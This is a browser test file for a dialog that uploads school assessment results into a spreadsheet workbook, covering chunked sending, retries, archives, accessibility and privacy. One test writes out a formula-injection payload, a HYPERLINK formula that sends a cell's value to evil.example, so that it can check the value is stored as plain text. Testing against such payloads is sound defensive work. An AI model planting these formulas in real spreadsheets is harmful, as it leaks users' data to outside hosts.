/** «Загрузить результаты» in a real browser, from dropped files to the counts of the workbook. */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { zipSync } from 'fflate';
import type { Page } from 'playwright-core';
import { writeSample } from '../../../local/sample';
import { CHUNK_BYTES } from '../../../src/domain/intake/chunks';
import { LOAD } from '../../../src/messages/dialog-load';
import { DIALOG } from '../../../src/messages/dialogs';
import { seriousFaults } from '../../support/accessibility';
import { Book } from '../../support/book';
import { OpenDialog, closeBrowser } from '../../support/dialog';
import { People, PERSON_HEADINGS, rowsOf, run, writeList } from '../../support/list-files';
import { describeWith } from '../../support/shared';

const folder = mkdtempSync(join(tmpdir(), 'load-'));
/** Three protocols of the sample and a table of ФИС ОКО. */
let files: string[] = [];

/** Google's words. */
const LOST = 'NetworkError: Connection failure due to HTTP 0';
const HEADER = 'login;mo;class;code;variant;total;journal_mark;t1;t2;t3';
/** Codes and points that stand nowhere by chance. */
const PUPILS = Array.from(
  { length: 12 },
  (_, i) => `edu900001;МО-1;4А;9180${73 + i};2;${3 + (i % 4)};4;1;0;2`,
);

function write(name: string, lines: readonly string[]): string {
  const path = join(folder, name);
  writeFileSync(path, lines.join('\n'));
  return path;
}

const give = (page: Page, paths: readonly string[]): Promise<void> =>
  page.setInputFiles('.drop input', paths as string[]);
const heading = (page: Page, text: string): Promise<unknown> => page.waitForSelector(`h1:text-is("${text}")`);
const press = (page: Page, text: string): Promise<void> => page.click(`.buttons button:has-text("${text}")`);
const content = (page: Page): Promise<string> => page.innerText('.content');
const called = ({ calls }: OpenDialog, name: string): number =>
  calls.filter((one) => one.name === name).length;

/** Rows of the machine tab as texts, whatever their order; cells that only widen the tab are left out. */
function counts(rows: readonly (readonly unknown[])[]): string[] {
  return rows
    .slice(1)
    .map((row) => row.map(String).join('|').replace(/\|+$/, ''))
    .sort();
}

async function preview(dialog: OpenDialog, paths: readonly string[]): Promise<Page> {
  await dialog.page.waitForSelector('.drop');
  await give(dialog.page, paths);
  await heading(dialog.page, LOAD.found);
  return dialog.page;
}

describeWith('browser', '«Загрузить результаты»', () => {
  beforeAll(async () => {
    const sample = await writeSample(join(folder, 'sample'));
    const protocols = sample.files.filter((path) => path.includes('Протоколы'));
    const table = sample.files.find((path) => path.includes('2021') && path.includes('Ф3'))!;
    files = [...protocols.slice(0, 3), table];
  }, 60_000);

  let dialog: OpenDialog;
  const open = async (book = Book.new(), size?: { width: number; height: number }): Promise<OpenDialog> =>
    (dialog = await OpenDialog.open(book, 'load', size));

  afterEach(async () => {
    expect(dialog.foreign).toEqual([]);
    await dialog.close();
  });
  afterAll(async () => {
    await closeBrowser();
    rmSync(folder, { recursive: true });
  });

  test('puts in what `import` of the same files puts in, in chunks, and says so', async () => {
    const { page, book } = await open();
    await page.waitForSelector('.drop');
    expect(await seriousFaults(page)).toEqual([]);
    await preview(dialog, files);
    expect(await seriousFaults(page)).toEqual([]);
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe(LOAD.found);
    expect(await content(page)).toContain('Новых результатов: 120');
    await press(page, 'Загрузить');
    await heading(page, LOAD.done);
    expect(await seriousFaults(page)).toEqual([]);
    expect(await content(page)).toContain('новых результатов – 120');

    const chunks = dialog.calls.filter(({ name }) => name === 'apiStageChunk').map(({ args }) => args[0]);
    expect(chunks.length).toBeGreaterThan(2);
    for (const chunk of chunks) expect(Buffer.byteLength(String(chunk))).toBeLessThanOrEqual(CHUNK_BYTES);

    const path = join(folder, 'book.xlsx');
    expect(run('import', ...files, '--workbook', path).code).toBe(0);
    expect(counts(book.values('_Счётчики'))).toEqual(counts(await rowsOf(path, '_Счётчики')));

    await press(page, LOAD.loadMore);
    await preview(dialog, files.slice(0, 3));
    expect(await content(page)).toContain(LOAD.allThere);
    expect(await page.locator('button.main').count()).toBe(0);
  }, 60_000);

  test('opens an archive, also one whose name ends with .ZIP, and finds in it what the files themselves give', async () => {
    await open();
    const inside = Object.fromEntries(
      files
        .slice(0, 3)
        .map((path) => [`Школы/${basename(path)}`, new Uint8Array(readFileSync(path))] as const),
    );
    const path = join(folder, 'ВСЕ.ZIP');
    writeFileSync(path, zipSync({ ...inside, '__MACOSX/._x.csv': new Uint8Array([1]) }));
    const page = await preview(dialog, [path]);
    expect(await content(page)).toContain('Новых результатов: 120');
    await page
      .locator('summary')
      .filter({ hasText: LOAD.files(3) })
      .click();
    expect(await content(page)).toContain(`«ВСЕ.ZIP/Школы/${basename(files[0]!)}»`);
    expect(await content(page)).not.toContain('MACOSX');
  }, 60_000);

  test('stops between chunks, leaves nothing, and loads when asked again', async () => {
    const { page, book } = await open();
    await preview(dialog, files.slice(0, 3));
    let release = (): void => undefined;
    const held = new Promise<void>((resolve) => (release = resolve));
    await page.route('**/call', async (route) => {
      const isSecond =
        route.request().postData()!.includes('apiStageChunk') && called(dialog, 'apiStageChunk') === 1;
      if (isSecond) await held;
      await route.continue();
    });
    await press(page, 'Загрузить');
    await page.waitForSelector('progress[value="1"]');
    await press(page, DIALOG.cancel);
    release();
    await page.waitForSelector(`text=${LOAD.sendingStopped}`);
    expect(called(dialog, 'apiStageCancel')).toBe(1);
    expect(counts(book.values('_Счётчики'))).toEqual([]);
    expect(book.api<{ stages: unknown[] }>('apiLoadContext').stages).toEqual([]);
    await press(page, 'Загрузить');
    await heading(page, LOAD.done);
    expect(counts(book.values('_Счётчики')).length).toBe(120);
  }, 30_000);

  test('after a failed call goes on from the chunks that are there, also in another window', async () => {
    const { page, book } = await open();
    await preview(dialog, files.slice(0, 3));
    dialog.intercept = (name) =>
      name === 'apiStageChunk' && called(dialog, name) === 2 ? { error: LOST } : null;
    await press(page, 'Загрузить');
    await page.waitForSelector('[role=alert] .notice');
    expect(await page.innerText('[role=alert] .notice')).toContain('Нет ответа от таблицы');
    const all = called(dialog, 'apiStageChunk');
    await dialog.close();

    await open(book);
    await preview(dialog, [...files.slice(0, 3)].reverse());
    expect(await content(dialog.page)).toContain(LOAD.begun);
    dialog.intercept = (name) =>
      name === 'apiStageCommit' && called(dialog, 'apiStageState') === 1 ? { error: LOST } : null;
    await press(dialog.page, 'Загрузить');
    await dialog.page.waitForSelector('[role=alert] .notice');
    expect(called(dialog, 'apiStageChunk')).toBe((await chunksOf(dialog)) - all);
    dialog.intercept = () => null;
    await press(dialog.page, DIALOG.again);
    await heading(dialog.page, LOAD.done);
    expect(counts(book.values('_Счётчики')).length).toBe(120);
  }, 30_000);

  test('finds out by itself that a lost answer was a good one', async () => {
    const { page, book } = await open();
    await preview(dialog, files.slice(0, 1));
    dialog.intercept = (name, args) => {
      if (name !== 'apiStageCommit') return null;
      book.call(name, ...args);
      return { error: LOST };
    };
    await press(page, 'Загрузить');
    await page.waitForSelector('[role=alert] .notice');
    const sent = called(dialog, 'apiStageChunk');
    dialog.intercept = () => null;
    await press(page, DIALOG.again);
    await heading(page, LOAD.doneThere);
    expect(called(dialog, 'apiStageChunk')).toBe(sent);
    expect(counts(book.values('_Счётчики')).length).toBe(40);
  }, 30_000);

  test('keeps files given before the workbook has answered, also where it does not', async () => {
    await open();
    let answers = false;
    // The first call may have gone out before: every one until «Повторить» fails.
    dialog.intercept = () => (answers ? null : { error: LOST });
    await dialog.page.reload();
    await dialog.page.waitForSelector('.drop');
    await give(dialog.page, [write('ДКР 2024 МА 4.csv', [HEADER, PUPILS[0]!])]);
    await dialog.page.waitForSelector('.buttons .main');
    answers = true;
    await press(dialog.page, DIALOG.again);
    await heading(dialog.page, LOAD.found);
    expect(await content(dialog.page)).toContain('ДКР 2024, Математика, 4 класс');
    expect(await content(dialog.page)).toContain('участников – ‹5');
  });

  test('sends no name, no document, no code and no row of points', async () => {
    const people = new People();
    const results = Array.from({ length: 12 }, (_, i) => [10 + i, 3 + (i % 3)]);
    const list = await writeList(join(folder, 'ОГЭ 2024 Математика 9 класс.xlsx'), [
      [...PERSON_HEADINGS, 'Первичный балл', 'Оценка'],
      ...people.rows('900001', 1, results),
    ]);
    const { page } = await open();
    await preview(dialog, [list, write('ДКР_2024_ма4.csv', [HEADER, ...PUPILS])]);
    expect(await content(page)).toContain('их значения не прочитаны');
    await press(page, 'Загрузить');
    await heading(page, LOAD.done);
    const calls = JSON.stringify(dialog.calls);
    expect(calls).toContain('900001');
    const cells = people.rows('900001', 1, results).flatMap((row) => row.slice(3, 9));
    const codes = PUPILS.map((row) => row.split(';')[3]!);
    for (const word of [...cells, ...codes, '1;0;2', '1,0,2', '"1","0","2"'])
      expect([word, calls.includes(String(word))]).toEqual([word, false]);
  }, 30_000);

  test('takes cells that begin like a formula for text', async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1;"Школа")';
    const rows = [
      ['ВПР 2021 Математика 4 класс'],
      ['Группы участников', 'Кол-во ОО', 'Кол-во участников', '2', '3', '4', '5'],
      [`${formula} (edu900001)`, '', 20, 10, 40, 30, 20],
      [formula, '', 20, 10, 40, 30, 20],
    ];
    const { page, book } = await open();
    await preview(dialog, [await writeList(join(folder, 'Ф3.xlsx'), rows)]);
    await press(page, 'Загрузить');
    await heading(page, LOAD.done);
    const formulas = book.spreadsheet
      .getSheets()
      .flatMap((sheet) => sheet.getDataRange().getFormulas().flat())
      .filter((one) => /HYPERLINK\("http/.test(one));
    expect(formulas).toEqual([]);
    expect(JSON.stringify(book.values('Школы'))).toContain('evil.example');
  }, 30_000);

  test('says what is no table, asks for a work that nothing names, and counts a file once, by keyboard alone', async () => {
    const pdf = write('отчёт.pdf', ['%PDF-1.4 …']);
    const { page, book } = await open(Book.new(), { width: 300, height: 560 });
    await page.waitForSelector('.drop');
    // Listened for before the key is pressed: the browser is told of it first.
    const opened = page.waitForEvent('filechooser');
    await page.keyboard.press('Tab');
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe(DIALOG.chooseFiles);
    await page.keyboard.press('Enter');
    const chooser = await opened;
    await chooser.setFiles([pdf]);
    await heading(page, LOAD.found);
    expect(await content(page)).toContain(LOAD.nothing);
    expect(await content(page)).toContain('«отчёт.pdf»: это PDF');

    const other = [HEADER, ...PUPILS];
    await give(page, [write('школа.csv', other), write('копия.csv', other)]);
    await page.waitForSelector('#kind');
    expect(await content(page)).toContain(LOAD.repeats(1));
    expect(await seriousFaults(page)).toEqual([]);
    await page.focus('#kind');
    await page.keyboard.press('Control+A');
    await page.keyboard.type('ДКР');
    await page.keyboard.press('Tab');
    await page.keyboard.type('2024');
    await page.keyboard.press('Tab');
    // Choosing in a list is the browser's own.
    await page.selectOption('#subject', 'МА');
    await page.selectOption('#grade', '4');
    await page.focus('#session');
    expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(
      0,
    );
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    await page.waitForSelector('.load-works');
    expect(await content(page)).toContain('ДКР 2024, Математика, 4 класс');
    expect(await content(page)).toContain('участников – 12');
    await page.focus('.buttons .main');
    await page.keyboard.press('Enter');
    await heading(page, LOAD.done);
    expect(book.values('_Счётчики')[1]!.slice(0, 2)).toEqual(['ДКР-2024-МА-4', '900001']);
  }, 30_000);

  test('reads a pasted table like a file', async () => {
    const { page, book } = await open();
    await page.click(`summary:has-text("${LOAD.pasteTitle}")`);
    await page.click(`text=${LOAD.pasteRead}`);
    expect(await content(page)).toContain(LOAD.pasteEmpty);
    const lines = [
      'ВПР 2021 Математика 4 класс',
      'Группы участников\tКол-во ОО\tКол-во участников\t2\t3\t4\t5',
      'Школа 1 (edu900001)\t\t20\t10\t40\t30\t20',
    ];
    await page.fill('#paste', lines.join('\n'));
    await page.click(`text=${LOAD.pasteRead}`);
    await heading(page, LOAD.found);
    await press(page, 'Загрузить: строк таблиц – 1');
    await heading(page, LOAD.done);
    expect(book.values('Отметки').flat()).toContain('ВПР-2021-МА-4');
  }, 30_000);
});

/** How many chunks the upload has that was sent. */
async function chunksOf(dialog: OpenDialog): Promise<number> {
  const last = [...dialog.calls].reverse().find(({ name }) => name === 'apiStageChunk')!;
  return (JSON.parse(String(last.args[0])) as { of: number }).of;
}
